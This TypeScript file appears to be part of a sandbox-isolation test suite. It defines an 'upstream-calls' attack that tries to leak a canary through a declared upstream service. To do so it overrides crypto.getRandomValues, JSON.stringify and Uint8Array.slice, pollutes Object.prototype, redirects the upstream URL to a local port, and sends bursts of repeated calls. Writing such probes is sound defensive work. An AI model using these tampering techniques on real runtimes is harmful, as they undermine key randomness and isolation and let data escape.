/** Attacks through the call of a declared upstream: what it is sent, to whom, how often, and what is seen of it. */
import { loose, pause, tryAll } from './attack.ts';
import type { Attack, Attempt } from './attack.ts';

const callMs = 8_000;

export const attacksOnUpstreams: Readonly<Record<string, Attack>> = {
  async 'upstream-calls'(attempt) {
    const { canary, use } = attempt;
    const sound = { channel: 'none', canary, target: attempt.target };
    await takeOver(attempt);
    await tryAll(
      () => loose(use)['stream']?.(sound),
      () => loose(use)[canary]?.(sound),
      () => loose(use)['__proto__']?.(sound),
    );
    await finish(use['mirror']?.(sound));
    await finish(use['mirror']?.({ ...sound, canary: canary.repeat(500) }));
    await sendElsewhere(attempt);
    setTimeout(() => void finish(use['mirror']?.(sound)), 0);
    for (let count = 0; count < 6; count += 1) await finish(use['mirror']?.(sound));
    return canary;
  },
};

// What the calls work with: random bytes for nonce and keys, the frozen list of upstreams, what JSON and fetch see.
async function takeOver({ canary, target, use }: Attempt): Promise<void> {
  const bytes = new TextEncoder().encode(canary);
  const url = `http://127.0.0.1:${target.tcp}/${canary}`;
  const fill = (array: Uint8Array): Uint8Array => {
    array.set(bytes.subarray(0, array.length));
    return array;
  };
  await tryAll(
    () => Object.defineProperty(crypto, 'getRandomValues', { value: fill }),
    () => Object.defineProperty(Crypto.prototype, 'getRandomValues', { value: fill }),
    () => Object.defineProperty(use, 'mirror', { value: { url } }),
    () => Object.defineProperty(use['mirror'], 'url', { value: url }),
    () => Object.defineProperty(Object.prototype, 'url', { value: url }),
    () => Object.defineProperty(Object.prototype, 'sizes', { value: [canary.length] }),
    () => Object.defineProperty(Uint8Array.prototype, 'slice', { value: () => bytes }),
    () => Object.defineProperty(JSON, 'stringify', { value: () => canary }),
  );
}

async function sendElsewhere({ canary, target, use }: Attempt): Promise<void> {
  const url = `http://127.0.0.1:${target.tcp}/${canary}`;
  const call = use['mirror'];
  if (!call) return;
  await finish(
    Reflect.apply(call, { url, href: url }, [{ channel: canary }, url, { url, headers: { canary } }]),
  );
  await finish(Promise.resolve(call({ toJSON: () => ({ url, canary, channel: 'none', target }) })));
}

// A call takes longer than other attacks; what it throws is nobody's business here.
async function finish(call: unknown): Promise<void> {
  await Promise.race([Promise.resolve(call).catch(() => undefined), pause(callMs)]);
}
